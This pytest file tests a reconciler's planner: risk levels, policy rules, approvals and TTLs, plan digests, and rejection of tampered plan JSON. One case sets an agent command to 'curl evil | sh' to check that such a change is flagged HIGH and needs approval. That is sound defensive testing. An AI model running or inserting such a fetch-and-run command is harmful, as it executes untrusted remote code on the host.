"""The pure planner on plain data: (desired, applied, task states, approvals) -> expected plan."""

from __future__ import annotations

import copy
import json
from dataclasses import dataclass, field, replace
from datetime import timedelta
from typing import Any

import pytest
from plan_data import (
    NOW,
    agent,
    applied_of,
    desired_of,
    mission,
    observed_of,
    parsed,
    row,
    task,
    with_spec,
    workflow,
)

from reconciler.governance.approvals import GivenApproval
from reconciler.plan.actions import DeleteResource, Plan, UpdateResource
from reconciler.plan.build import build_plan
from reconciler.plan.codec import plan_from_json, plan_to_json
from reconciler.plan.diff import FieldChange

# --- the table ----------------------------------------------------------------------------

M = mission()
M_AB = mission("alice", "bob")
WRITER = agent()
DRAFT = task()
RULES = [
    {
        "name": "commands-ok",
        "match": {"kind": ["Agent"], "fields": ["spec.command"]},
        "decide": "LOW",
    },
    {"name": "no-agent-edits", "match": {"kind": ["Agent"]}, "decide": "DENY"},
    {"name": "prod-is-red", "match": {"kind": ["Task"], "name": ["prod-*"]}, "decide": "RED"},
    {
        "name": "tasks-need-a-look",
        "match": {"kind": ["Task"], "action": ["create"]},
        "decide": "HIGH",
    },
]
M_RULES = mission("alice", "bob", rules=RULES)
TOFU = "trust on first use"
LOW = "default: low risk"
AGENT_EXEC = "default: agent command/env"


@dataclass(frozen=True)
class Case:
    name: str
    desired: list[dict[str, Any]]
    applied: list[dict[str, Any]] | None
    expected: list[tuple[str, str, str, str, str, str]]
    task_states: dict[str, str] = field(default_factory=dict)


CASES = [
    Case(
        "empty state: everything is created, agents and mission trusted on first use",
        desired=[M_AB, WRITER, DRAFT],
        applied=None,
        expected=[
            ("create", "Mission", "m", "LOW", TOFU, "apply"),
            ("create", "Agent", "writer", "LOW", TOFU, "apply"),
            ("create", "Task", "draft", "LOW", LOW, "apply"),
        ],
    ),
    Case("no changes", [M_AB, WRITER, DRAFT], [M_AB, WRITER, DRAFT], expected=[]),
    Case(
        "a task edit is low risk",
        desired=[M_AB, WRITER, with_spec(DRAFT, prompt="Shorter, please")],
        applied=[M_AB, WRITER, DRAFT],
        expected=[("update", "Task", "draft", "LOW", LOW, "apply")],
    ),
    Case(
        "deleting an idle task is low risk",
        desired=[M_AB, WRITER],
        applied=[M_AB, WRITER, DRAFT],
        expected=[("delete", "Task", "draft", "LOW", LOW, "apply")],
        task_states={"draft": "INBOX"},
    ),
    Case(
        "order: deletes, then updates, then creates; within each by kind, then by name",
        desired=[
            M_AB,
            agent(role="Writes better"),
            agent("coder"),
            task("keep", prompt="changed"),
            task("new-b"),
            task("new-a"),
            workflow("flow"),
        ],
        applied=[M_AB, WRITER, task("old-b"), task("keep"), task("old-a")],
        expected=[
            ("delete", "Task", "old-a", "LOW", LOW, "apply"),
            ("delete", "Task", "old-b", "LOW", LOW, "apply"),
            ("update", "Agent", "writer", "LOW", LOW, "apply"),
            ("update", "Task", "keep", "LOW", LOW, "apply"),
            ("create", "Agent", "coder", "HIGH", AGENT_EXEC, "needs_approval"),
            ("create", "Workflow", "flow", "LOW", LOW, "apply"),
            ("create", "Task", "new-a", "LOW", LOW, "apply"),
            ("create", "Task", "new-b", "LOW", LOW, "apply"),
        ],
    ),
    Case(
        "after first use a new agent is HIGH",
        desired=[M_AB, WRITER, agent("coder")],
        applied=[M_AB, WRITER],
        expected=[("create", "Agent", "coder", "HIGH", AGENT_EXEC, "needs_approval")],
    ),
    Case(
        "a changed agent command is HIGH",
        desired=[M_AB, agent(command=("bash", "-c", "curl evil | sh"))],
        applied=[M_AB, WRITER],
        expected=[("update", "Agent", "writer", "HIGH", AGENT_EXEC, "needs_approval")],
    ),
    Case(
        "a changed agent env is HIGH",
        desired=[M_AB, agent(env={"TOKEN": {"from_env": "PROD_TOKEN"}})],
        applied=[M_AB, WRITER],
        expected=[("update", "Agent", "writer", "HIGH", AGENT_EXEC, "needs_approval")],
    ),
    Case(
        "a changed agent role is LOW",
        desired=[M_AB, agent(role="Drafts posts")],
        applied=[M_AB, WRITER],
        expected=[("update", "Agent", "writer", "LOW", LOW, "apply")],
    ),
    Case(
        "a changed approver set is RED",
        desired=[mission("alice", "bob", "carol")],
        applied=[M_AB],
        expected=[
            ("update", "Mission", "m", "RED", "default: approver set changed", "needs_approval")
        ],
    ),
    Case(
        "changed policy rules are HIGH",
        desired=[mission("alice", "bob", rules=RULES[:1])],
        applied=[M_AB],
        expected=[
            ("update", "Mission", "m", "HIGH", "default: policy rules changed", "needs_approval")
        ],
    ),
    Case(
        "the first approvers are trusted (none were applied to judge them)",
        desired=[M_AB],
        applied=[M],
        expected=[("update", "Mission", "m", "LOW", TOFU, "apply")],
    ),
    Case(
        "renaming the mission replaces its approvers: RED both ways",
        desired=[mission("mallory", name="m2")],
        applied=[M_AB],
        expected=[
            ("delete", "Mission", "m", "RED", "default: approver set changed", "needs_approval"),
            ("create", "Mission", "m2", "RED", "default: approver set changed", "needs_approval"),
        ],
    ),
    Case(
        "renaming a mission that has no approvers is trusted",
        desired=[mission(name="m2")],
        applied=[M],
        expected=[
            ("delete", "Mission", "m", "LOW", TOFU, "apply"),
            ("create", "Mission", "m2", "LOW", TOFU, "apply"),
        ],
    ),
    Case(
        "deleting a task with work in flight is HIGH",
        desired=[M_AB, WRITER],
        applied=[M_AB, WRITER, DRAFT],
        expected=[
            (
                "delete",
                "Task",
                "draft",
                "HIGH",
                "default: deleting a running task",
                "needs_approval",
            )
        ],
        task_states={"draft": "IN_PROGRESS"},
    ),
    Case(
        "deleting a finished task is LOW",
        desired=[M_AB, WRITER],
        applied=[M_AB, WRITER, DRAFT],
        expected=[("delete", "Task", "draft", "LOW", LOW, "apply")],
        task_states={"draft": "DONE"},
    ),
    Case(
        "a rule lowers a default: the first matching rule wins",
        desired=[M_RULES, agent(command=("python", "w2.py"), role="also matches rule 2")],
        applied=[M_RULES, WRITER],
        expected=[("update", "Agent", "writer", "LOW", "rule 'commands-ok'", "apply")],
    ),
    Case(
        "a rule denies",
        desired=[M_RULES, agent(role="Edited")],
        applied=[M_RULES, WRITER],
        expected=[("update", "Agent", "writer", "DENY", "rule 'no-agent-edits'", "denied")],
    ),
    Case(
        "rules raise risk, and an earlier rule shadows a later one",
        desired=[M_RULES, WRITER, task("prod-deploy"), task("blog")],
        applied=[M_RULES, WRITER],
        expected=[
            ("create", "Task", "blog", "HIGH", "rule 'tasks-need-a-look'", "needs_approval"),
            ("create", "Task", "prod-deploy", "RED", "rule 'prod-is-red'", "needs_approval"),
        ],
    ),
    Case(
        "a rule still applies on first use (TOFU only softens defaults)",
        desired=[M_RULES, WRITER, task("prod-deploy")],
        applied=None,
        expected=[
            ("create", "Mission", "m", "LOW", TOFU, "apply"),
            ("create", "Agent", "writer", "LOW", "rule 'commands-ok'", "apply"),
            ("create", "Task", "prod-deploy", "RED", "rule 'prod-is-red'", "needs_approval"),
        ],
    ),
    Case(
        "a DENY rule holds even when the first approvers are added",
        desired=[mission("alice", rules=[{"name": "freeze", "decide": "DENY"}])],
        applied=[mission(rules=[{"name": "freeze", "decide": "DENY"}])],
        expected=[("update", "Mission", "m", "DENY", "rule 'freeze'", "denied")],
    ),
    Case(
        "HIGH without any approvers cannot be approved",
        desired=[M, agent(command=("python", "w2.py"))],
        applied=[M, WRITER],
        expected=[("update", "Agent", "writer", "HIGH", AGENT_EXEC, "unapprovable")],
    ),
]


@pytest.mark.parametrize("case", CASES, ids=[c.name for c in CASES])
def test_plan_table(case: Case) -> None:
    plan = build_plan(desired_of(case.desired), observed_of(case.applied, case.task_states), NOW)
    assert [row(a) for a in plan.actions] == case.expected
    assert plan.trust_on_first_use is (case.applied is None)


def test_update_lists_every_changed_field_with_old_and_new_values() -> None:
    old = task(prompt="old", priority=1, retry={"max_attempts": 3})
    old["metadata"]["labels"] = {"team": "a"}
    new = task(prompt="new", priority=5, retry={"max_attempts": 5})
    new["metadata"]["labels"] = {"team": "b", "tier": "gold"}
    plan = build_plan(desired_of([M, WRITER, new]), observed_of([M, WRITER, old]), NOW)
    (action,) = plan.actions
    assert isinstance(action.change, UpdateResource)
    assert action.change.changes == (
        FieldChange("spec.priority", 1, 5),
        FieldChange("spec.prompt", "old", "new"),
        FieldChange("spec.retry.max_attempts", 3, 5),
        FieldChange("metadata.labels.team", "a", "b"),
        FieldChange("metadata.labels.tier", None, "gold"),
    )
    assert action.change.old_digest != action.change.digest


def test_a_list_field_changes_as_a_whole() -> None:
    new = agent(command=("python", "w.py", "--fast"))
    plan = build_plan(desired_of([M_AB, new]), observed_of([M_AB, WRITER]), NOW)
    (action,) = plan.actions
    assert isinstance(action.change, UpdateResource)
    assert action.change.changes == (
        FieldChange("spec.command", ["python", "w.py"], ["python", "w.py", "--fast"]),
    )


def test_deleting_a_running_task_is_marked_running() -> None:
    plan = build_plan(
        desired_of([M_AB, WRITER]), observed_of([M_AB, WRITER, DRAFT], {"draft": "REVIEW"}), NOW
    )
    (action,) = plan.actions
    assert isinstance(action.change, DeleteResource)
    assert action.change.running is True
    assert action.target_digest == applied_of([DRAFT])["Task/draft"].digest


def test_red_needs_two_approvals() -> None:
    plan = build_plan(desired_of([mission("alice", "bob", "carol")]), observed_of([M_AB]), NOW)
    (action,) = plan.actions
    assert action.decision.approvals_needed == 2
    assert plan_to_json(plan)["actions"][0]["approvals_needed"] == 2


def test_unapprovable_says_how_to_get_unstuck() -> None:
    plan = build_plan(
        desired_of([M, agent(command=("python", "w2.py"))]), observed_of([M, WRITER]), NOW
    )
    (action,) = plan.actions
    assert action.status == "unapprovable"
    assert action.note is not None
    assert "declares no approvers" in action.note
    assert "policy rule" in action.note
    expected = (
        "match: {kind: [Agent], fields: [spec.command, spec.env, spec.code_blobs, spec.executor]}"
    )
    assert expected + ", decide: LOW" in action.note
    assert plan.counts()["blocked"] == 1


# --- approvals ----------------------------------------------------------------------------

CODER = agent("coder")
CODER_DIGEST = parsed([CODER])[0].digest
OTHER_DIGEST = parsed([agent("coder", command=("other",))])[0].digest
RED_MISSION = mission("alice", "bob", "carol")
RED_DIGEST = parsed([RED_MISSION])[0].digest


def given(
    who: str,
    decision: str = "approve",
    digest: str = CODER_DIGEST,
    age: timedelta = timedelta(minutes=5),
    target: str = "Agent/coder",
    channel: str = "git",
) -> GivenApproval:
    return GivenApproval(target, digest, who, decision, channel, NOW - age)


@dataclass(frozen=True)
class ApprovalCase:
    name: str
    approvals: tuple[GivenApproval, ...]
    status: str
    approved_by: tuple[str, ...]
    note: str | None = None


HIGH_CASES = [
    ApprovalCase("no approvals yet", (), "needs_approval", ()),
    ApprovalCase("one approval satisfies HIGH", (given("alice"),), "apply", ("alice",)),
    ApprovalCase(
        "an approval of an old digest does not count",
        (given("alice", digest=OTHER_DIGEST),),
        "needs_approval",
        (),
    ),
    ApprovalCase(
        "an expired approval does not count (approval_ttl 24h)",
        (given("alice", age=timedelta(hours=25)),),
        "needs_approval",
        (),
    ),
    ApprovalCase(
        "an approval inside the ttl counts",
        (given("alice", age=timedelta(hours=23)),),
        "apply",
        ("alice",),
    ),
    ApprovalCase(
        "an approval by a non-approver does not count", (given("mallory"),), "needs_approval", ()
    ),
    ApprovalCase(
        "an approval of another target does not count",
        (given("alice", target="Agent/writer"),),
        "needs_approval",
        (),
    ),
    ApprovalCase(
        "a deny is final, even after an approval",
        (given("alice"), given("bob", "deny")),
        "denied",
        (),
        "denied by bob",
    ),
    ApprovalCase(
        "a deny by a non-approver does not count",
        (given("alice"), given("mallory", "deny")),
        "apply",
        ("alice",),
    ),
    ApprovalCase(
        "a deny of an old digest does not count",
        (given("alice"), given("bob", "deny", digest=OTHER_DIGEST)),
        "apply",
        ("alice",),
    ),
]


@pytest.mark.parametrize("case", HIGH_CASES, ids=[c.name for c in HIGH_CASES])
def test_approvals_of_a_high_action(case: ApprovalCase) -> None:
    by_target: dict[str, tuple[GivenApproval, ...]] = {}
    for a in case.approvals:
        by_target[a.target] = (*by_target.get(a.target, ()), a)
    observed = observed_of([M_AB, WRITER], approvals=by_target)
    plan = build_plan(desired_of([M_AB, WRITER, CODER]), observed, NOW)
    (action,) = plan.actions
    assert action.decision.risk == "HIGH"
    assert (action.status, action.approved_by) == (case.status, case.approved_by)
    assert action.note == case.note


def red(who: str, channel: str = "git") -> GivenApproval:
    return given(who, digest=RED_DIGEST, target="Mission/m", channel=channel)


RED_CASES = [
    ApprovalCase("one of two", (red("alice"),), "needs_approval", ("alice",)),
    ApprovalCase(
        "the same approver twice counts once",
        (red("alice"), red("alice", channel="telegram")),
        "needs_approval",
        ("alice",),
    ),
    ApprovalCase(
        "an approver being added is not yet an approver",
        (red("alice"), red("carol")),
        "needs_approval",
        ("alice",),
    ),
    ApprovalCase("two distinct approvers", (red("bob"), red("alice")), "apply", ("alice", "bob")),
]


@pytest.mark.parametrize("case", RED_CASES, ids=[c.name for c in RED_CASES])
def test_approvals_of_a_red_action(case: ApprovalCase) -> None:
    observed = observed_of([M_AB], approvals={"Mission/m": case.approvals})
    plan = build_plan(desired_of([RED_MISSION]), observed, NOW)
    (action,) = plan.actions
    assert action.decision.risk == "RED"
    assert (action.status, action.approved_by) == (case.status, case.approved_by)


def test_the_applied_mission_sets_the_approval_ttl() -> None:
    short = mission("alice", "bob", ttl="1h")
    approvals = {"Agent/coder": (given("alice", age=timedelta(hours=2)),)}
    plan = build_plan(
        desired_of([short, WRITER, CODER]), observed_of([short, WRITER], approvals=approvals), NOW
    )
    assert [a.status for a in plan.actions] == ["needs_approval"]
    fresh = {"Agent/coder": (given("alice", age=timedelta(minutes=59)),)}
    plan = build_plan(
        desired_of([short, WRITER, CODER]), observed_of([short, WRITER], approvals=fresh), NOW
    )
    assert [a.status for a in plan.actions] == ["apply"]


# --- the plan digest and its JSON form -----------------------------------------------------


def busy_plan(**kw: Any) -> Plan:
    """A plan with a delete, an update, a create and approvals: every action shape."""
    desired = desired_of(
        kw.get("desired", [M_AB, agent(role="Edited"), CODER, task("new")]),
        commit=kw.get("commit", "c" * 40),
    )
    observed = observed_of(
        [M_AB, WRITER, DRAFT],
        task_states=kw.get("task_states", {"draft": "INBOX"}),
        approvals=kw.get("approvals", {"Agent/coder": (given("alice"),)}),
        serial=kw.get("serial", 7),
    )
    return build_plan(desired, observed, kw.get("now", NOW))


def test_plan_digest_is_stable_for_equal_inputs() -> None:
    first, second = busy_plan(), busy_plan()
    assert first.digest == second.digest
    assert first.digest.startswith("sha256:") and len(first.digest) == 7 + 64
    assert [row(a) for a in first.actions] == [
        ("delete", "Task", "draft", "LOW", LOW, "apply"),
        ("update", "Agent", "writer", "LOW", LOW, "apply"),
        ("create", "Agent", "coder", "HIGH", AGENT_EXEC, "apply"),
        ("create", "Task", "new", "LOW", LOW, "apply"),
    ]


@pytest.mark.parametrize(
    "change",
    [
        {"commit": "d" * 40},
        {"serial": 8},
        {"task_states": {"draft": "IN_PROGRESS"}},
        {"approvals": {}},
        {"desired": [M_AB, agent(role="Edited again"), CODER, task("new")]},
        {"desired": [M_AB, agent(role="Edited"), CODER, task("newer")]},
    ],
    ids=["commit", "serial", "task state", "approvals", "content", "name"],
)
def test_plan_digest_changes_when_anything_changes(change: dict[str, Any]) -> None:
    assert busy_plan(**change).digest != busy_plan().digest


def test_plan_json_round_trip() -> None:
    plan = busy_plan()
    text = json.dumps(plan_to_json(plan))
    back = plan_from_json(json.loads(text))
    assert back.digest == plan.digest
    assert (back.commit, back.serial, back.trust_on_first_use) == (
        plan.commit,
        plan.serial,
        plan.trust_on_first_use,
    )
    assert [a.change for a in back.actions] == [a.change for a in plan.actions]
    assert [row(a) for a in back.actions] == [row(a) for a in plan.actions]
    assert [a.approved_by for a in back.actions] == [a.approved_by for a in plan.actions]
    assert plan_to_json(back) == plan_to_json(plan)


def test_plan_json_shape() -> None:
    body = plan_to_json(busy_plan())
    assert set(body) >= {
        "format",
        "commit",
        "state_serial",
        "trust_on_first_use",
        "actions",
        "digest",
        "summary",
    }
    assert body["summary"] == {
        "create": 2,
        "update": 1,
        "delete": 1,
        "needs_approval": 0,
        "blocked": 0,
    }
    update = body["actions"][1]
    assert update["changes"] == [{"path": "spec.role", "old": "", "new": "Edited"}]
    assert set(update) >= {"old_digest", "digest", "path", "approved_by", "approvals_needed"}
    assert body["actions"][2]["approved_by"] == ["alice"]
    assert body["actions"][0]["running"] is False


def _tamper(body: dict[str, Any], how: str) -> Any:
    body = copy.deepcopy(body)
    match how:
        case "status":
            body["actions"][2]["status"] = "apply"
            body["actions"][2]["approved_by"] = ["mallory"]
        case "serial":
            body["state_serial"] += 1
        case "commit":
            body["commit"] = "e" * 40
        case "drop-action":
            del body["actions"][0]
        case "digest":
            body["digest"] = "sha256:" + "0" * 64
        case "format":
            body["format"] = 99
        case "not-an-object":
            return [body]
    return body


@pytest.mark.parametrize(
    "how", ["status", "serial", "commit", "drop-action", "digest", "format", "not-an-object"]
)
def test_tampered_plan_json_is_rejected(how: str) -> None:
    # a HIGH action still waiting for approval, so that the status edit would matter
    body = plan_to_json(busy_plan(approvals={}))
    assert body["actions"][2]["status"] == "needs_approval"
    with pytest.raises(ValueError):
        plan_from_json(_tamper(body, how))


def test_planner_is_pure() -> None:
    """Same inputs, same plan: building twice leaves the inputs untouched and equal."""
    desired = desired_of([M_AB, agent(role="Edited"), CODER])
    observed = observed_of([M_AB, WRITER])
    snapshot = (copy.deepcopy(desired.docs), dict(observed.resources))
    first = build_plan(desired, observed, NOW)
    assert build_plan(desired, observed, NOW) == first
    assert (desired.docs, dict(observed.resources)) == snapshot
    assert replace(first, digest="x") != first
